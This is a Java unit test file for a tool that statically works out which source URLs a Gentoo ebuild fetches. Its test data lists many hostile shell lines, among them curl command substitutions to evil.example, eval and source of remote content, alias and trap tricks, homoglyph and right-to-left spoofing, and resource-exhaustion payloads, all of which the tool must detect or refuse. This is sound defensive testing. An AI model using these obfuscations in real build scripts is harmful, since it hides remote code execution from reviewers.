package io.github.ebuildattest.engine.ebuild;

import static io.github.ebuildattest.engine.ebuild.Ebuilds.evaluate;
import static io.github.ebuildattest.engine.ebuild.Ebuilds.evaluated;
import static io.github.ebuildattest.engine.ebuild.Ebuilds.refused;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Ways to hide what is fetched: each is seen through, or refused. */
class HostileEbuildTest {
  private static final String SDIST =
      "https://files.pythonhosted.org/packages/source/f/foo-bar/foo_bar-1.2rc3.tar.gz";

  @ParameterizedTest
  @ValueSource(
      strings = {
        "SRC_URI=$(curl https://evil.example/url)",
        "SRC_URI=`curl https://evil.example/url`",
        "SRC_URI+=\" $(<list)\"",
        "eval SRC_URI=https://evil.example/x",
        "\\eval SRC_URI=https://evil.example/x",
        "\"ev\"al SRC_URI=x",
        "e=eval; $e SRC_URI=x",
        "command eval SRC_URI=x",
        "builtin eval SRC_URI=x",
        "$(curl x) SRC_URI=y",
        "$(curl x)",
        "source evil",
        ". ./evil",
        "read SRC_URI < <(curl x)",
        "read -r -d '' SRC_URI <<EOF\nhttps://evil.example/x\nEOF",
        "IFS= read -rd '' SRC_URI <<< x",
        "mapfile -t SRC_URI < list",
        "readarray SRC_URI < list",
        "mapfile -C 'SRC_URI=x;:' -c 1 lines < list",
        "getopts a SRC_URI",
        "printf -v SRC_URI %q x",
        "printf -v 'SRC_URI[0]' %s x",
        "declare -n ref=SRC_URI; ref=https://evil.example/x",
        "f() { local -n r=$1; r=x; }; f SRC_URI",
        "trap 'SRC_URI=https://evil.example/x' EXIT",
        "trap 'SRC_URI=https://evil.example/x' DEBUG",
        "pypi_sdist_url() { echo https://evil.example/x; }",
        "_pypi_sdist_url() { _PYPI_SDIST_URL=x; }",
        "inherit() { SRC_URI=x; }",
        "echo() { builtin echo https://evil.example/x; }",
        "function die { SRC_URI=x; }",
        "unset -f pypi_sdist_url; SRC_URI=$(pypi_sdist_url)",
        "alias true='SRC_URI=x'; shopt -s expand_aliases",
        "shopt -s expand_aliases",
        "set -k",
        "set -o posix",
        "shopt -s nocasematch; [[ A == a ]] && SRC_URI=x",
        "enable -n declare",
        "PS4='${SRC_URI:=x}'; set -x",
        "BASH_ENV=evil",
        "POSIXLY_CORRECT=1",
        "x='${SRC_URI:=https://evil.example}'; : \"${x@P}\"",
        "${ SRC_URI=https://evil.example/x; }",
        "[[ -n $(curl x) ]] && SRC_URI=https://evil.example/x",
        "if curl x; then SRC_URI=y; fi",
        "curl x || SRC_URI=y",
        "case $(curl x) in 1) SRC_URI=y;; esac",
        "for u in $(curl x); do SRC_URI=$u; done",
        "while read -r u; do SRC_URI+=\" $u\"; done < list",
        "for SRC_URI in $(curl x); do :; done",
        "SRC_URI=https://evil.example/*.tar.gz; set -- $SRC_URI; SRC_URI=$1",
        "SRC_URI=~/x",
        "SRC_URI=${RANDOM}",
        "SRC_URI=${FILESDIR}/x",
        "SRC_URI=${!PYPI*}",
        "(( $(curl x) ))",
        "exec {SRC_URI}>file",
        "exec evil",
        "exit 0",
        "readonly SRC_URI; inherit cargo; SRC_URI=x",
        "PV=1.0",
        "EAPI=7",
        "set_source SRC_URI https://evil.example/x",
        "SRC_\\\nURI=https://evil.example/x",
        "if curl x; then inherit git-r3; fi",
        "inherit $(curl x)",
        "inherit ${UNSET_BY_US_BUT_NOT_BY_OTHERS}",
        "coproc evil",
        "select SRC_URI in a b; do break; done",
        "SRC_URI=https://evil.example/a\u00a0https://evil.example/b",
        "SRC_URI=https://evil.example/\u202egz.rat",
        "SRC_URI='a? b'",
        "SRC_URI='('",
        "SRC_URI='x -> '",
        "let 'SRC_URI[0]=$(curl x)'",
        "die",
        "if true; then",
        "SRC_URI=\"unterminated",
        "LC_ALL=tr_TR.UTF-8",
        "hash -p /evil declare; unset -n SRC_URI"
      })
  void refuses(String line) {
    Refused refused = refused("inherit distutils-r1 pypi\n" + line + "\n");
    assertThat(refused.reason()).isNotBlank();
    assertThat(refused.line()).isPositive();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "f() { SRC_URI=https://evil.example/x; }; f",
        "f() { declare -g SRC_URI=https://evil.example/x; }; f",
        "f() { local x=1; export SRC_URI=https://evil.example/x; }; f",
        "f() { typeset -g SRC_URI; SRC_URI=https://evil.example/x; }; f",
        "export SRC_URI=https://evil.example/x",
        "readonly SRC_URI=https://evil.example/x",
        "declare \"SRC_URI=https://evil.example/x\"",
        "n=SRC_URI; declare $n=https://evil.example/x",
        "printf -v SRC_URI %s https://evil.example/x",
        "unset SRC_URI; : ${SRC_URI:=https://evil.example/x}",
        "unset SRC_URI; [[ -n ${SRC_URI:=https://evil.example/x} ]]",
        "for SRC_URI in a https://evil.example/x; do :; done",
        "SRC_URI=( https://evil.example/x y )",
        "SRC_URI[0]=https://evil.example/x",
        "set -- https://evil.example/x; SRC_URI=$1",
        "a=https://evil; b=.example/x; c=a; SRC_URI=${!c}$b",
        "SRC_URI=$'https://ev\\x69l.example/x'",
        "[[ https://evil.example/x =~ .* ]] && SRC_URI=${BASH_REMATCH[0]}",
        "case x in y) ;; *) SRC_URI=https://evil.example/x;; esac",
        "false || SRC_URI=https://evil.example/x",
        "{ SRC_URI=https://evil.example/x; } > /dev/null",
        "SRC_URI=https://evil.example/x; return; SRC_URI=y"
      })
  void sees_through(String line) {
    assertThat(evaluated("inherit pypi\n" + line + "\n").srcUri())
        .isEqualTo("https://evil.example/x");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "( SRC_URI=x )",
        "src_unpack() { SRC_URI=x; eval \"$(curl x)\"; trap 'y' EXIT; source z; }",
        "DEPEND=$(eval SRC_URI=x)",
        "SRC_URI=x | true",
        "SRC_URI=x foo",
        "foo() { local SRC_URI=x; }; foo",
        "RDEPEND=$(curl x)\"$(cat y)\"",
        "einfo \"$(curl x)\"",
        "if curl x; then KEYWORDS=~amd64; else die; fi",
        "# SRC_URI=x",
        ": <<'E'\nSRC_URI=x\nE",
        "\u0405RC_URI=https://evil.example/x",
        "SRC_URI =x",
        "set +e; shopt -s nullglob"
      })
  void leaves_the_default_where_nothing_reaches_it(String line) {
    assertThat(evaluated("inherit pypi\n" + line + "\n").srcUri()).isEqualTo(SDIST);
  }

  @Test
  void shows_a_number_that_arithmetic_put_into_the_sources() {
    assertThat(evaluated("inherit pypi\nx='SRC_URI=7'; (( x ))\n").srcUri()).isEqualTo("7");
  }

  @Test
  void evaluates_or_refuses_what_an_eclass_of_the_overlay_does() {
    Map<String, String> plain = Map.of("ours", "SRC_URI=https://evil.example/x\n");
    assertThat(Ebuilds.expectEvaluated(evaluate("inherit pypi ours\n", plain)).srcUri())
        .isEqualTo("https://evil.example/x");
    Map<String, String> hidden = Map.of("ours", "\n\neval \"$(curl x)\"\n");
    Refused refused = Ebuilds.expectRefused(evaluate("inherit pypi\ninherit ours\n", hidden));
    assertThat(refused.line()).isEqualTo(3);
    assertThat(refused.reason()).contains("ours.eclass");
    assertThat(refused.inherited()).containsExactly("pypi", "ours");
    assertThat(refused.overlayEclasses()).containsExactly("ours");
  }

  @Test
  void names_line_and_construct() {
    Refused refused = refused("inherit pypi\n\nSRC_URI+=\" $(curl x)\"\n");
    assertThat(refused.line()).isEqualTo(4);
    assertThat(refused.construct()).isEqualTo("$(curl x)");
    assertThat(refused.reason())
        .isEqualTo(
            "what the ebuild fetches cannot be told: '$(curl x)' in line 4 – curl is a command that"
                + " is not run; write the value out, or use what pypi.eclass offers");
  }

  @Test
  void refuses_an_unknown_value_that_the_eclass_would_read() {
    assertThat(refused("PYPI_PN=$(curl x)\ninherit pypi\n").construct()).isEqualTo("$(curl x)");
    assertThat(refused("PYPI_VERIFY_REPO=$(curl x)\ninherit pypi\n").line()).isEqualTo(2);
    assertThat(refused("PYPI_NO_NORMALIZE=$(curl x)\ninherit pypi\n").line()).isEqualTo(2);
    assertThat(refused("_PYPI_ECLASS=$(curl x)\ninherit pypi\n").line()).isEqualTo(2);
  }

  @Test
  void follows_the_guard_of_the_eclass() {
    assertThat(evaluated("_PYPI_ECLASS=1\ninherit pypi\n").srcUri()).isEmpty();
    assertThat(evaluated("inherit pypi\nSRC_URI=x\ninherit pypi\n").srcUri()).isEqualTo("x");
  }

  @Test
  void refuses_carriage_returns_nul_and_other_encodings() {
    assertThat(refused("inherit pypi\r\n").reason()).contains("carriage return");
    assertThat(refused("inherit pypi\n\0").line()).isPositive();
    byte[] latin = "EAPI=8\n# \u00e9\n".getBytes(StandardCharsets.ISO_8859_1);
    assertThat(judged(latin)).isInstanceOf(Refused.class);
    assertThat(judged(new byte[50_000_000])).isInstanceOf(Refused.class);
  }

  private static Evaluation judged(byte[] bytes) {
    return new EbuildEvaluator(name -> Optional.empty())
        .evaluate(new EbuildText("x", "dev-python", "foo", "1", bytes));
  }

  @Test
  void refuses_other_eapis() {
    assertThat(Ebuilds.evaluate("foo", "1", "inherit pypi\n", Map.of()))
        .isInstanceOf(Refused.class);
    assertThat(Ebuilds.evaluate("foo", "1", "EAPI=6\ninherit pypi\n", Map.of()))
        .isInstanceOf(Refused.class);
    assertThat(Ebuilds.evaluate("foo", "1", "# x\n\nEAPI=\"9\" # y\ninherit pypi\n", Map.of()))
        .isInstanceOf(Evaluated.class);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{{a,b},{c,d}}{1..1000}{1..1000}",
        "x=a; for i in {1..4000}; do for j in {1..4000}; do x+=y; done; done",
        "while :; do x+=xxxxxxxx; done",
        "x=xxxxxxxx; for i in {1..60}; do x=$x$x; done",
        "x=xxxxxxxx; for i in {1..60}; do x=${x//x/xxxxxxxx}; done",
        "f() { f; }; f",
        "f() { f | f; }; f",
        "x=x; for i in {1..14}; do x=$x$x; done; [[ $x == *a*a*a*a*a*a*b ]]",
        "x=x; for i in {1..14}; do x=$x$x; done; [[ $x =~ (x+x+)+y ]]; x=${x##*!(*(x|xx))*y}",
        "a='a+a+a'; (( a ))",
        "x=1; for i in {1..60}; do x=\"($x+$x)\"; done; (( x ))",
        "a=(); for i in {1..4000}; do a+=( {1..4000} ); done"
      })
  void stops_at_its_budget(String line) {
    long start = System.nanoTime();
    Evaluation evaluation = evaluate("inherit pypi\n" + line + "\n");
    assertThat(System.nanoTime() - start).isLessThan(2_000_000_000L);
    assertThat(evaluation).isInstanceOf(Refused.class);
  }

  @ParameterizedTest
  @CsvSource(
      quoteCharacter = '|',
      delimiter = ';',
      value = {
        "|{ |;|\n}|",
        "|( |;|)|",
        "|x=$(|;|)|",
        "|x=\"$(|;|)\"|",
        "|x=$((|;|))|",
        "|x=${a:-|;|}|",
        "|set -- {a,|;|}|",
        "|if |;|fi|",
        "|[[ ( |;|) ]]|",
        "|((|;|))|",
        "|f() {\n|;|\n}|",
        "|(( a[|;|] ))|",
        "|case x in x) |;|;; esac|"
      })
  void refuses_ten_thousand_nested_constructs(String opening, String closing) {
    String close = closing == null ? "" : closing;
    for (int depth : new int[] {100, 10_000}) {
      String inner = opening.replaceFirst("^(x=|set -- |\\(\\( |\\[\\[ x == )", "");
      String text = opening + inner.repeat(depth) + "a" + close.repeat(depth + 1) + "\n";
      long start = System.nanoTime();
      Evaluation evaluation = evaluate(text);
      assertThat(System.nanoTime() - start).isLessThan(2_000_000_000L);
      assertThat(evaluation).as(opening).isInstanceOf(Refused.class);
    }
  }
}
